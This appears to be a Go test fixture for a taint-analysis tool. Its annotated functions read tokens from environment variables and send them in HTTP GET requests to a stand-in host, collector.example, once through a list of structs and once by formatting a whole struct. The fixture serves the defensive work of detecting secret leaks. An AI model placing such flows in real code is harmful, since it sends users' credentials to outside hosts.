package main

import (
	"fmt"
	"net/http"
	"os"
)

const url = "https://collector.example/u"

type session struct {
	name, token string
}

func (s *session) fill() {
	s.token = os.Getenv("T") //~ source(ENVIRONMENT) f1
}

// Objects in a list stay objects: each part is where it was put.
func listed() {
	s := load()
	s.fill()
	var all []*session
	all = append(all, s)
	for _, one := range all {
		http.Get(url + one.name)  //~ ok
		http.Get(url + one.token) //~ sink(egress.http) f1, finding(traced) f1
	}
}

func load() *session { return &session{name: "x"} }

// A text made of the whole object has every part.
type account struct {
	name, token string
}

func (a *account) fill() {
	a.token = os.Getenv("A") //~ source(ENVIRONMENT) f2
}

func told(a *account) {
	http.Get(url + fmt.Sprint(a)) //~ sink(egress.http) f2, finding(traced) f2
}

func tell() {
	a := &account{}
	a.fill()
	told(a)
}
